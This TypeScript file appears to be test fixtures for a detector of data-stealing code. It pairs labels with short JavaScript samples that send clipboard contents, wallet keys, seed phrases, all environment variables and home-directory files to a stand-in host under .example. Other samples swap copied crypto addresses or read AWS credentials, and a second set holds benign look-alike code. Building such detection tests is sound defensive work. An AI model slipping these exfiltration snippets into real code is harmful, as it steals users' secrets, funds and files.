/** What thieves take, taken by programs of our own that do nothing: every host is under .example. */
type Files = Readonly<Record<string, string>>;
const one = (text: string): Files => ({ 'a.js': text });

export const takenSamples: Readonly<Record<string, readonly [string, Files]>> = {
  'the clipboard sent, by the command of each system': ['reads-clipboard a.js:3', one("const { exec } = require('child_process'); const axios = require('axios');\nconst command = { darwin: 'pbpaste', win32: 'powershell Get-Clipboard' }[process.platform];\nexec(command, (error, text) => { axios.post('https://a.example', { text }); });")],
  'an address put in the clipboard': ['changes-clipboard a.js:2', one("const clipboardy = require('clipboardy');\nsetInterval(() => { if (/^0x[a-fA-F0-9]{40}$/.test(clipboardy.readSync())) clipboardy.writeSync('0x00000000000000000000000000000000000000aa'); }, 500);")],
  'the key of a wallet in the settings': ['sends-wallet-key a.js:1', one("fetch('https://a.example', { method: 'POST', body: JSON.stringify({ note: process.env.PRIVATE_KEY }) });")],
  'the words of a wallet that a form asks for': ['sends-wallet-key A.tsx:2', { 'A.tsx': "export const verify = async (words: string) => {\n  await fetch('https://a.example/seed', { method: 'POST', body: JSON.stringify({ seedPhrase: words }) });\n};" }],
  'a private key under its own name': ['sends-wallet-key a.js:1', one("const wallet = { privateKey: read() }; fetch('https://a.example', { method: 'POST', body: JSON.stringify(wallet) });")],
  'the words of a wallet that are filled in later': ['sends-wallet-key a.js:1', one("const asked = { mnemonic: null }; asked.mnemonic = form.words; fetch('https://a.example', { method: 'POST', body: JSON.stringify(asked) });")],
  'the key of a wallet, by a messenger': ['sends-wallet-key a.js:2', one("const TelegramBot = require('node-telegram-bot-api'); const bot = new TelegramBot(token);\nbot.sendMessage(1, process.env.MNEMONIC);")],
  'every value of the environment, one by one': ['sends-environment a.js:2', one("const axios = require('axios'); const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key];\naxios.post('https://a.example', all);")],
  'documents of the person, swept and sent': ['sends-files a.js:4', one("const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios'), FormData = require('form-data');\nfunction sweep(dir, found) { for (const name of fs.readdirSync(dir)) { const full = path.join(dir, name); if (fs.statSync(full).isDirectory()) sweep(full, found); else found.push(full); } return found; }\nfor (const file of sweep(os.homedir(), [])) { const form = new FormData(); form.append('f', fs.createReadStream(file));\naxios.post('https://a.example', form); }")],
  'documents that are piped into a request': ['sends-files a.js:3', one("const fs = require('fs'), os = require('os'), https = require('https');\nconst request = https.request({ host: 'a.example', method: 'POST' });\nfs.readdirSync(os.homedir()).forEach((name) => fs.createReadStream(os.homedir() + '/' + name).pipe(request));")],
  'documents that a pipeline sends': ['sends-files a.js:2', one("import { pipeline } from 'node:stream/promises'; import { createReadStream } from 'node:fs'; import { homedir } from 'node:os'; import got from 'got';\nawait pipeline(createReadStream(homedir() + '/notes.txt'), got.stream.post('https://a.example'));")],
  'a folder that is packed and sent': ['sends-files a.js:3', one("const archiver = require('archiver'), fs = require('fs'), os = require('os'), axios = require('axios'); const out = '/tmp/out.zip'; const zip = archiver('zip');\nzip.glob('**/*.txt', { cwd: os.homedir() }); zip.pipe(fs.createWriteStream(out));\naxios.post('https://a.example', fs.readFileSync(out));")],
  'keys under a folder that is put together': ['reads-keys a.js:1', one("const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));")],
};

/** Ordinary code that looks alike. */
export const quietTakenSamples: Readonly<Record<string, Files>> = {
  'a wallet that signs': one("const { Wallet } = require('ethers'); const w = new Wallet(process.env.PRIVATE_KEY); w.signMessage('x').then((s) => fetch('https://a.example', { method: 'POST', body: s }));"),
  "words that go to the project's own server": one("fetch('/api/wallets', { method: 'POST', body: JSON.stringify({ mnemonic }) });"),
  'the private key that an ssh client has not got yet': one("const config = { host: 'a.example', privateKey: undefined, passphrase: undefined }; fetch('https://a.example', { method: 'POST', body: JSON.stringify(config) });"),
  'the private key that a TLS client has not got, as null and as void': one("const config = { privateKey: null, private_key: void 0 }; fetch('https://a.example', { method: 'POST', body: JSON.stringify(config) });"),
  'the key of another service': one("fetch('https://a.example', { method: 'POST', body: JSON.stringify({ key: process.env.VAPID_PRIVATE_KEY }) });"),
  'a file of the project that is piped into a request': one("const fs = require('fs'), https = require('https'); fs.createReadStream('./report.pdf').pipe(https.request({ host: 'a.example', method: 'PUT' }));"),
  'a folder of the project that is packed and sent': one("const archiver = require('archiver'), fs = require('fs'), axios = require('axios'); const out = './out.zip'; const zip = archiver('zip'); zip.directory('./dist'); zip.pipe(fs.createWriteStream(out)); axios.post('https://a.example', fs.readFileSync(out));"),
  'a key of the tests, shown to a server of the tests': one("const fs = require('fs'), https = require('https'), path = require('path'); https.get({ host: 'localhost', key: fs.readFileSync(path.join(__dirname, 'fixtures', 'id_rsa')) });"),
  'a certificate that is written and read by a program': one("const fs = require('fs'), { exec } = require('child_process'); fetch('https://a.example').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/a.pem', t); exec('openssl x509 -in /tmp/a.pem -text -noout'); });"),
  'an archive that is fetched and unpacked': one("const fs = require('fs'), { execFileSync } = require('child_process'); fetch('https://a.example/a.tgz').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/a.tgz', Buffer.from(b)); execFileSync('tar', ['xf', '/tmp/a.tgz']); });"),
  'a picture that is fetched and piped to a converter': one("const { spawn } = require('child_process'); const p = spawn('convert', ['-', 'png:-']); require('https').get('https://a.example', (r) => r.pipe(p.stdin));"),
  'a worker of the project': one("const { Worker } = require('worker_threads'); fetch('https://a.example').then((r) => r.json()).then((data) => new Worker('./work.js', { workerData: data }));"),
  'a template with fetched values': one("const ejs = require('ejs'); fetch('https://a.example').then((r) => r.json()).then((data) => ejs.render('<p><%= name %></p>', data));"),
  'an event with fetched data': one("const { EventEmitter } = require('events'); const bus = new EventEmitter(); bus.on('x', (d) => console.log(d)); fetch('https://a.example').then((r) => r.text()).then((t) => bus.emit('x', t)); eval('1');"),
  'a callback named by the page': one("fetch('https://a.example').then((r) => r.json()).then((d) => window[name](d));"),
  'git told what was written': one("const fs = require('fs'), { spawn } = require('child_process'); fetch('https://a.example').then((r) => r.text()).then((t) => { fs.writeFileSync('NOTES.md', t); spawn('git', ['add', 'NOTES.md']); });"),
};
